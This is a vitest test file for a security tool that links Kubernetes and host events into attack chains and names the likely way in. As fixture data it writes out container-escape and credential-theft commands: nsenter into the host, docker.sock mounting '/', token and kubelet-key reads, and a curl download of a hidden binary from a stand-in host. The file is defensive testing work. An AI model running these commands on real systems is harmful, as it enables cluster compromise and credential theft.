import { describe, expect, it } from 'vitest';
import { buildChain } from '../../../src/extension/core/investigate/chain/buildChain.ts';
import { findEntry } from '../../../src/extension/core/investigate/chain/findEntry.ts';
import type { Evidence } from '../../../src/extension/core/model/evidence.ts';
import type { ProcessTree, Scope, SecurityEvent } from '../../../src/extension/core/model/threat.ts';
import { words } from './read.ts';
import { pod, proc } from './scenario.ts';
import { at, seen } from './sightings.ts';

/** Links of the chain from the last event, as "from → to: reason", dotted ones with a question mark. */
function told(events: readonly SecurityEvent[], tree?: ProcessTree): readonly string[] {
  const trigger = seen(events.at(-1)!);
  const shown = tree && { tree, cites: ['tree'] as unknown as Evidence['id'][] as [Evidence['id']] };
  const { links } = buildChain({ trigger, ofGroups: events.map(seen), swept: [], special: () => undefined, tree: shown });
  return links.map(({ from, to, reason, inferred }) => `${from} ${inferred ? '?' : '→'} ${to}: ${words(reason.phrase)}`);
}

const host: Scope = { host: 'vm-12' };
const other: Scope = { host: 'db-3' };
const node: Scope = { cluster: 'prod-eu-1', host: 'node-3-41' };
const cluster: Scope = { cluster: 'prod-eu-1' };
const audit = { source: 'k8s_audit' };
const login = (address: string, user: string, pid: number) => ({
  ...proc('sshd', `sshd: ${user}@pts/0`, 'sshd', pid, 40),
  'evt.type': 'accept',
  'evt.res': 'SUCCESS',
  'fd.rip': address,
  'fd.sport': '22',
  'user.loginname': user,
});
const guess = (address: string) => ({
  ...proc('sshd', 'sshd: [listener]', 'systemd', 40, 1),
  'evt.type': 'accept',
  'evt.res': 'EACCES',
  'fd.rip': address,
});
const by = (user: string, fields: Record<string, string>) => ({ ...fields, 'user.name': user });
const below = (fields: Record<string, string>, ...names: string[]) => ({
  ...fields,
  ...Object.fromEntries(names.map((name, index) => [`proc.aname[${index + 2}]`, name])),
});
const request = (user: string, verb: string, resource: string, more: Record<string, string> = {}) => ({
  'ka.user.name': user,
  'ka.verb': verb,
  'ka.target.resource': resource,
  'ka.sourceips': '10.0.4.4',
  'ka.useragent': 'curl/8.5.0',
  ...more,
});
const own = 'system:serviceaccount:shop:storefront';
const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const reads = { ...proc('cat', `cat ${token}`, 'bash', 61, 50), 'evt.type': 'openat', 'fd.name': token };
const ssh = { ...proc('ssh', 'ssh deploy@10.0.0.9', 'bash', 70, 50), 'evt.type': 'connect', 'fd.rip': '10.0.0.9', 'fd.rport': '22' };

describe('a login and its session', () => {
  it('[K-03] a session belongs to the login of its user, and to its address alone on a listener that serves many', () => {
    const events = [
      at(20, host, guess('198.51.100.7')),
      at(19, host, guess('203.0.113.9')),
      at(18, host, guess('198.51.100.8')),
      at(17, host, login('203.0.113.9', 'deploy', 60)),
      at(16, host, login('192.0.2.3', 'ansible', 64)),
      at(15, host, by('deploy', below(proc('crontab', 'crontab -', 'bash', 80, 70), 'sshd', 'sshd'))),
    ];
    expect(told(events)).toEqual([
      'S1 → S2: sshd (process 40) is the parent process.',
      'S2 ? S3: it descends from sshd, which had taken a connection from 203.0.113.9.',
    ]);
  });

  it('[K-03] an attempt that failed lets nobody in', () => {
    expect(told([at(9, host, guess('203.0.113.9')), at(8, host, below(proc('id', 'id', 'bash', 80, 70), 'sshd'))])).toEqual([]);
  });

  it.each([
    [
      'both ends of one connection',
      { 'fd.name': '10.0.0.5:5310->10.0.0.9:22' },
      '→',
      'both are ends of one connection from 10.0.0.5 to 10.0.0.9.',
    ],
    ['the user and that both are inside', {}, '?', 'ssh had gone to another machine, and sshd took a login there.'],
  ])('[K-03] a login on the next machine by %s', (_name, ends, arrow, reason) => {
    const events = [at(9, host, { ...ssh, ...ends }), at(8.9, other, { ...login('10.0.0.5', 'deploy', 60), ...ends })];
    expect(told(events)).toEqual([`S1 ${arrow} S2: ${reason}`]);
  });

  it('[I-05] somebody else who logs in there in the same minute is no link', () => {
    expect(told([at(9, host, ssh), at(8.9, other, login('10.0.0.5', 'ansible', 60))])).toEqual([]);
  });
});

describe('from the pod to the cluster', () => {
  const api = (ago: number, fields: Record<string, string>) => at(ago, cluster, fields, audit);

  it('[K-03] a token read, and requests of that account in a way that it had not been used before', () => {
    const events = [
      api(30, request(own, 'get', 'configmaps', { 'ka.useragent': 'storefront/2.1' })),
      at(9, pod, reads),
      api(8, request(own, 'get', 'configmaps', { 'ka.useragent': 'storefront/2.1' })),
      api(7, request(own, 'list', 'secrets')),
    ];
    expect(told(events)).toEqual([`S1 → S2: the token of storefront-x2k4q was read, and the request was made with its account ${own}.`]);
  });

  it("[I-05] another workload's program at its everyday work is no link, although it shares the namespace", () => {
    const cart = request('system:serviceaccount:shop:cart', 'get', 'configmaps', { 'ka.useragent': 'cart/1.4 (linux/amd64)' });
    expect(told([at(9, pod, reads), api(8, cart)])).toEqual([]);
    expect(told([at(9, pod, reads), api(8, { ...cart, 'ka.user.name': 'system:serviceaccount:shop:storefront-sa' })])).toHaveLength(1);
  });

  it('[K-03] an account of another name in the namespace is inferred, one of another namespace is no link', () => {
    const runner = 'system:serviceaccount:shop:runner';
    expect(told([at(9, pod, reads), api(8, request(runner, 'list', 'secrets'))])).toEqual([
      `S1 ? S2: a token was read in the namespace shop, and the request was made with its account ${runner}.`,
    ]);
    expect(told([at(9, pod, reads), api(8, request('system:serviceaccount:ci:storefront', 'list', 'secrets'))])).toEqual([]);
  });

  it('[K-03] requests from the address that a pod had connected from', () => {
    const contact = {
      ...proc('curl', 'curl https://kubernetes.default/', 'bash', 61, 50),
      'evt.type': 'connect',
      'fd.name': '10.0.4.4:5000->10.96.0.1:443',
    };
    const viewer = 'system:serviceaccount:tools:viewer';
    expect(told([at(9, pod, contact), api(8, request(viewer, 'list', 'secrets'))])).toEqual([
      "S1 ? S2: the request came from the pod's own address 10.0.4.4.",
    ]);
  });

  it("[I-05] one person's requests from two addresses are in two hands", () => {
    const person = (address: string) => request('dana@acme.example', 'list', 'nodes', { 'ka.sourceips': address });
    expect(told([api(9, person('10.0.7.7')), api(8, person('10.0.7.8'))])).toEqual([]);
    expect(told([api(9, person('10.0.7.7')), api(8, { ...person('10.0.7.7'), 'ka.verb': 'delete' })])).toEqual([
      'S1 ? S2: same account dana@acme.example from the same place.',
    ]);
  });

  it('[K-03] a workload created through the API, and what ran in it first', () => {
    const made = request('dana@acme.example', 'create', 'cronjobs', { 'ka.target.name': 'gc', 'ka.target.namespace': 'kube-system' });
    const inJob: Scope = { ...cluster, namespace: 'kube-system', pod: 'gc-29381160-h2xq8', container: 'aaaaaaaaaaaa' };
    const events = [api(9, made), at(8, inJob, proc('apk', 'apk add', 'sh', 61, 50)), at(7, inJob, proc('gc', '/run/gc', 'sh', 62, 50))];
    expect(told(events)).toEqual([
      'S1 → S2: dana@acme.example had asked the API server to create gc, in which it ran.',
      'S2 → S3: both were started by process 50.',
    ]);
  });

  it('[I-05] what a controller rolled out explains no shell below the server of the workload', () => {
    const rolled = (user: string) =>
      request(user, 'create', 'deployments', { 'ka.target.name': 'storefront', 'ka.target.namespace': 'shop' });
    const shell = at(8, pod, proc('bash', 'bash', 'java', 61, 50));
    expect(told([api(9, rolled('system:serviceaccount:argocd:argocd')), shell])).toEqual([]);
    expect(told([api(9, rolled('mallory@acme.example')), shell])).toHaveLength(1);
  });

  it('[K-03] an account bound to a role, and what it did then', () => {
    const bound = request('dana@acme.example', 'create', 'clusterrolebindings', { 'ka.req.binding.subjects': 'shop/storefront' });
    expect(told([api(9, bound), api(8, request(own, 'list', 'secrets'))])).toEqual([
      `S1 ? S2: the request was made as ${own}, which had been given rights.`,
    ]);
  });

  it('[K-03] of two execs into a pod the one that asked for the command', () => {
    const exec = (user: string, command: string) =>
      request(user, 'create', 'pods', {
        'ka.target.subresource': 'exec',
        'ka.target.name': 'storefront-x2k4q',
        'ka.target.namespace': 'shop',
        'ka.uri.param[command]': command,
      });
    const events = [
      api(9, exec('dana@acme.example', 'ps')),
      api(8, exec('lee@acme.example', 'sh')),
      at(7, pod, proc('ps', 'ps aux', 'runc', 61, 50)),
    ];
    expect(told(events)).toEqual(['S1 → S2: dana@acme.example opened a process in the pod.']);
  });
});

describe('from the container to its node', () => {
  const left = { ...proc('nsenter', 'nsenter -t 1 -- sh /tmp/n.sh', 'sh', 60, 50), 'evt.type': 'setns' };

  it('[K-03] by the name of what changed its namespaces, and by what it was told to run', () => {
    const reason = 'S1 ? S2: it descends from nsenter, which had left the namespaces of 3f2a9c81d7be.';
    expect(told([at(9, pod, left), at(8, node, below(proc('cat', 'cat', 'sh', 72, 71), 'nsenter'))])).toEqual([reason]);
    const parent = { ...proc('cat', 'cat', 'sh', 72, 71), 'proc.pcmdline': 'sh /tmp/n.sh' };
    expect(told([at(9, pod, left), at(8, node, parent)])).toEqual([reason]);
    expect(told([at(9, pod, left), at(8, node, below(proc('cat', 'cat', 'cron', 72, 71), 'systemd'))])).toEqual([]);
  });

  it('[I-07] [K-03] proven where the process tree has the processes between', () => {
    const leaf = { trigger: false, children: [] };
    const tree = { roots: [{ ...leaf, pid: 60, name: 'nsenter', children: [{ ...leaf, pid: 71, ppid: 60, name: 'sh' }] }] };
    const events = [at(9, pod, left), at(8, node, proc('cat', 'cat', 'sh', 72, 71))];
    expect(told(events)).toEqual([]);
    expect(told(events, tree)).toEqual(['S1 → S2: nsenter (process 60) stands above it in the process tree.']);
  });

  it('[K-03] a file that was left there and run later, by a scheduler and over a mounted folder of the host', () => {
    const job = proc('gc', '/usr/local/sbin/.gc', 'sh', 91, 90);
    const runs = at(8, node, { ...job, 'proc.exepath': '/usr/local/sbin/.gc' });
    const reason = 'S1 → S2: /usr/local/sbin/.gc, which it left there, was run.';
    expect(told([at(9, node, proc('curl', 'curl -o /usr/local/sbin/.gc http://a.example/x', 'bash', 60, 50)), runs])).toEqual([reason]);
    const wrote = { ...proc('cp', 'cp', 'bash', 60, 50), 'evt.type': 'openat', 'evt.arg.flags': 'O_CREAT|O_WRONLY' };
    expect(told([at(9, pod, { ...wrote, 'fd.name': '/host/usr/local/sbin/.gc' }), runs])).toEqual([reason]);
    expect(told([at(9, other, { ...wrote, 'fd.name': '/usr/local/sbin/.gc' }), runs])).toEqual([]);
  });

  it('[K-03] the key of the node, and requests of its account', () => {
    const key = { ...proc('cat', 'cat', 'sh', 72, 71), 'fd.name': '/var/lib/kubelet/pki/kubelet-client-current.pem' };
    const asNode = (name: string) => at(8, cluster, request(`system:node:${name}`, 'list', 'secrets'), audit);
    expect(told([at(9, node, key), asNode('node-3-41')])).toEqual([
      'S1 → S2: the key of system:node:node-3-41 was read, and the request was made with it.',
    ]);
    expect(told([at(9, node, key), asNode('node-9')])).toEqual([]);
  });

  it("[K-03] the socket of the host's runtime, and a container that began there", () => {
    const used = proc('docker', 'docker -H unix:///var/run/docker.sock run -v /:/host alpine', 'bash', 60, 50);
    const began = (container: string, parent: string) => at(8, { ...node, container }, proc('sh', 'sh', parent, 90, 88));
    expect(told([at(9, pod, used), began('aaaaaaaaaaaa', 'containerd-shim')])).toEqual([
      'S1 ? S2: docker had used the socket of the container runtime there.',
    ]);
    expect(told([at(9, pod, used), began('aaaaaaaaaaaa', 'java')])).toEqual([]);
  });

  it('[I-05] children of a scheduler have nothing to do with each other', () => {
    const job = (pid: number) => at(9, host, proc('sh', `sh -c job-${pid}`, 'cron', pid, 40));
    expect(told([job(60), job(61)])).toEqual([]);
  });
});

it('[K-03] a detection without container and fields belongs to the only container of its pod', () => {
  const { container: _container, ...bare } = pod;
  const shell = at(9, pod, proc('bash', 'bash', 'java', 61, 50));
  const model = at(8, bare, {}, { source: 'profiling' });
  const { links, boundaries } = buildChain({ trigger: seen(model), ofGroups: [seen(shell)], swept: [], special: () => undefined });
  expect(links.map(({ reason }) => words(reason.phrase))).toEqual(['same pod storefront-x2k4q.']);
  expect(boundaries.map(({ label }) => label)).toEqual(['container 3f2a9c81d7be · prod-eu-1/shop/storefront']);
});

it('[I-05] pods of one name whose cluster is not named are not one pod', () => {
  const pair = (scope: Scope) => ['id', 'ps'].map((name) => at(9, { ...scope, namespace: 'shop', pod: 'web-0' }, { 'proc.name': name }));
  expect(told(pair({}))).toEqual([]);
  expect(told(pair(cluster))).toEqual(['S1 → S2: same pod web-0.']);
});

describe('the way in', () => {
  const entry = (...events: readonly SecurityEvent[]) => {
    const rows = events.map(seen);
    const { members, ties } = buildChain({ trigger: rows[0], ofGroups: rows, swept: [], special: () => undefined });
    const found = findEntry(
      members.map((member) => member.event),
      ties,
    );
    return found && words(found.way);
  };
  const shell = (parent: string) => proc('sh', 'sh -c id', parent, 60, 50);

  it.each([
    ['a program that started a shell', shell('resizer'), /^the process resizer, which started the shell sh$/],
    [
      'a server above a shell that raised no event',
      below(proc('id', 'id', 'sh', 61, 60), 'php-fpm8.2'),
      /^the server process php-fpm8\.2,/,
    ],
    ['what a server took in', { ...proc('node', 'node app.js', 'tini', 60, 50), 'evt.type': 'recvfrom' }, /^the server process node,/],
    [
      'what a program took in that was told to answer',
      { ...proc('portal', 'portal --port 8080', 'tini', 60, 50), 'evt.type': 'accept' },
      /^the server process portal,/,
    ],
  ])('[K-03] in a container: %s', (_name, fields, way) => {
    expect(entry(at(9, pod, fields))).toMatch(way);
  });

  it.each([
    ['a shell that a person or the runtime started', shell('runc')],
    [
      'a program that a server of no known name started',
      { ...proc('tool', 'tool', 'portal', 60, 50), 'proc.pcmdline': 'portal --port 8080' },
    ],
    ['a shell of a scheduler', shell('crond')],
  ])('[K-03] in a container it is unknown: %s', (_name, fields) => {
    expect(entry(at(9, pod, fields))).toBeUndefined();
  });

  it('[K-03] where the oldest event shows none, one that proven links join to it in the same place', () => {
    const scanned = at(9, pod, proc('tool', 'tool', 'runner', 60, 50));
    expect(entry(scanned, at(8, pod, proc('sh', 'sh', 'java', 70, 65)))).toMatch(/^the server process java/);
    expect(entry(scanned, at(8, host, { ...proc('sh', 'sh', 'java', 70, 65), 'fd.rip': '203.0.113.9' }))).toBeUndefined();
  });

  it('[K-03] packages being installed are one, a server that was started in the chain is none', () => {
    const script = at(9, pod, { ...proc('sh', 'sh -c node setup.js', 'npm', 60, 50), 'proc.pcmdline': 'npm ci' });
    const started = [at(8, pod, proc('node', 'node setup.js', 'sh', 61, 60)), at(7, pod, proc('sh', 'sh -c id', 'node', 62, 61))];
    expect(entry(script, ...started)).toBe('npm ci, which runs scripts of the packages that it installs');
    expect(entry(at(9, pod, proc('tool', 'tool -c', 'runner', 60, 50)), ...started)).toBeUndefined();
  });

  it('[K-03] an account in use from outside, of a person or of a pod', () => {
    const api = (user: string, address: string) => at(9, cluster, request(user, 'list', 'secrets', { 'ka.sourceips': address }), audit);
    expect(entry(api(own, '203.0.113.9'))).toBe(`the account ${own} at the cluster's API, used from 203.0.113.9`);
    expect(entry(api('dana', '203.0.113.9'))).toBe("the account dana at the cluster's API, used from 203.0.113.9");
    expect(entry(api('dana@acme.example', '10.0.7.7'))).toBe("the account dana@acme.example at the cluster's API");
    expect(entry(api(own, '10.0.4.4'))).toBeUndefined();
  });
});
